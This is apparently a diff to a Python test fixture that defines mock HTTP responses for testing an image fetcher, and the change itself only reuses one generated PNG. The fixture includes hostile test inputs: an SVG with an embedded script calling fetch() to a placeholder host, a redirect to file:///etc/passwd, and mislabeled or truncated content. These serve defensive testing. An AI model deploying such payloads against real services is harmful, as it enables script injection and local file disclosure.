@@ -24,19 +24,20 @@ def png(width: int = 2000, height: int = 1000) -> bytes:
     return target.getvalue()
 
 
+GOOD = png()
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://spy.example")</script></svg>'
 LARGE = 50_000_000
 ANSWERS = {
-    "/good.png": answer(png(), Content_Type="image/png"),
-    "/typed-as-text": answer(png(), Content_Type="text/html"),
+    "/good.png": answer(GOOD, Content_Type="image/png"),
+    "/typed-as-text": answer(GOOD, Content_Type="text/html"),
     "/missing.png": answer(b"<h1>Not found</h1>", "404 Not Found", Content_Type="text/html"),
     "/script.svg": answer(SVG, Content_Type="image/svg+xml"),
     "/svg-as.png": answer(SVG, Content_Type="image/png"),
     "/page.png": answer(b"<html>Please log in</html>", Content_Type="image/png"),
     "/empty.png": answer(b"", Content_Type="image/png"),
-    "/cut.png": answer(png())[:-200],
+    "/cut.png": answer(GOOD)[:-200],
     "/away.png": answer(b"", "302 Found", Location="file:///etc/passwd"),
-    "/told-50-MB.png": answer(png(), Content_Type="image/png").replace(
+    "/told-50-MB.png": answer(GOOD, Content_Type="image/png").replace(
         b"Content-Length: ", f"Content-Length: {LARGE}\r\nX-Real: ".encode()
     ),
 }
